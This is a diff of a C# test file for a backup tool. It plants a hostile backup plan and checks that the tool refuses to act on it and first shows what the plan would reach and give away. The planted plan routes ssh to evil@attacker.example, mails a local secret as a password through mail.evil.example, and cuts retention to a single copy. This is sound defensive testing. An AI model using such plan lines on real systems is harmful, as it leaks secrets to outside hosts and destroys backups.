@@ -69,6 +69,45 @@ public sealed class HostileRepositoryTests : IDisposable
     }
 
     [Fact]
+    public async Task What_a_plan_reaches_and_what_it_gives_away_is_shown_before_it_is_asked()
+    {
+        await _business.ProtectAsync();
+        _business.Write("secret", "of this machine");
+        PlantPlan(
+            "  vault: { at: ../colo/vault, site: colo, key: \"file:../kit/vault.key\" }",
+            $$"""
+              vault: { at: ../colo/vault, site: colo, key: "file:{{_business["secret"]}}" }
+            alerts: { mail: { server: mail.evil.example, from: a@evil.example, to: [b@evil.example], user: c, password: "file:{{_business["secret"]}}" } }
+            """,
+            ("colo-server: { site: colo, folder: ../colo/server, drill: { folder: ../colo/drill } }", "colo-server: { site: colo, ssh: evil@attacker.example, folder: /srv }"),
+            ("every: 30 minutes, to", "every: 30 minutes, keep: { last: 1 }, to"));
+        _business.Write("bin/ssh", $"#!/bin/sh\ntouch {_business["reached"]}\nexit 255\n");
+        File.SetUnixFileMode(_business["bin/ssh"], UnixFileMode.UserRead | UnixFileMode.UserExecute);
+        var path = new Dictionary<string, string> { ["PATH"] = $"{_business["bin"]}:{Environment.GetEnvironmentVariable("PATH")}" };
+        string[] from = ["--from", _business["colo/vault"], "--key", "file:" + _business["kit/vault.key"], "--state", _business["colo-state"]];
+        const string Host = "host colo-server: reached by ssh at evil@attacker.example";
+        var given = $"is given the key of nas (file:{_business["kit/nas.key"]})";
+        var mail = $"alerts: sends mail to b@evil.example by mail.evil.example:587 as c, its key at file:{_business["secret"]}";
+        foreach (var (verb, shown) in new (string[], string[])[]
+        {
+            (["host", "check"], [Host, given]),
+            (["verify"], [$"repository nas at {_business["evil/nas"]}, its key at file:{_business["kit/nas.key"]}"]),
+            (["upkeep"], ["orders: removes copies from nas and vault but 1 last"]),
+            (["alerts", "send"], [mail]),
+            (["schedule", "run"], ["orders on office-server: copies", "orders: removes copies from nas and vault but 1 last", mail]),
+            (["protect"], ["orders on office-server: copies", mail]),
+            (["failover"], [Host, given]),
+        })
+        {
+            var asked = await ProgramRun.OfAsync(Built.Holdfast, [.. verb, .. from], path);
+            Assert.True(asked.ExitCode == 6, asked.ToString());
+            Assert.All(shown, line => Assert.True(asked.Output.Contains(line, StringComparison.Ordinal), $"{line}\n{asked}"));
+        }
+
+        Assert.False(File.Exists(_business["reached"]));
+    }
+
+    [Fact]
     public async Task What_can_be_no_record_costs_itself_and_stops_no_failover()
     {
         await _business.ProtectAsync();
@@ -188,12 +227,16 @@ public sealed class HostileRepositoryTests : IDisposable
     private void Plant(string folder, string tag) =>
         Restic.RunIn(_business[folder], "backup", ".", "--host", "holdfast", "--tag", $"{tag},state:0123456789abcdef");
 
-    private void PlantPlan(string old, string now)
+    private void PlantPlan(string old, string now, params (string Old, string Now)[] more)
     {
         var text = _business.Read("office/holdfast.yaml");
-        Assert.Contains(old, text, StringComparison.Ordinal);
-        Directory.CreateDirectory(_business["evil"]);
-        File.WriteAllText(_business["evil/holdfast.yaml"], text.Replace(old, now, StringComparison.Ordinal));
+        foreach (var (before, after) in more.Prepend((old, now)))
+        {
+            Assert.Contains(before, text, StringComparison.Ordinal);
+            text = text.Replace(before, after, StringComparison.Ordinal);
+        }
+
+        _business.Write("evil/holdfast.yaml", text);
         Restic.RunIn(_business["evil"], "backup", "holdfast.yaml", "--host", "holdfast", "--tag", "holdfast:plan,repository:vault");
     }
 
